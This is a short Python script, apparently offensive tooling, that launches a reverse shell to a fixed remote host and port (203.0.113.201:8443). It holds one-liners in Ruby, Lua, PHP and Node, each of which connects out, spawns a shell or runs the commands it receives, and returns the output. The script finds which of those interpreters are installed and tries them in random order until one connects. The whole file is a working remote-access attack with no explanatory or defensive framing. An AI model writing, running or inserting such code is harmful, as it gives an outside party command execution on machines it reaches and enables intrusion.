import random
import shutil
import subprocess

HOST, PORT = "203.0.113.201", 8443
SNIPS = {
    "ruby": ["-rsocket", "-e", f'c=TCPSocket.new("{HOST}",{PORT});while l=c.gets;IO.popen(l,"r"){{|i|c.print i.read}}end'],
    "lua": ["-e", f"local s=require('socket').tcp();s:connect('{HOST}',{PORT});while true do local r=s:receive();if not r then break end;local f=io.popen(r);s:send(f:read('*a'));f:close() end"],
    "php": ["-r", f'$s=fsockopen("{HOST}",{PORT});proc_open("sh -i",[$s,$s,$s],$p);sleep(86400);'],
    "node": ["-e", f"const s=require('net').connect({PORT},'{HOST}');const p=require('child_process').spawn('sh');s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)"],
}

langs = [k for k in SNIPS if shutil.which(k)]
random.shuffle(langs)
for lang in langs:
    if subprocess.call([lang, *SNIPS[lang]], stderr=subprocess.DEVNULL) == 0:
        break
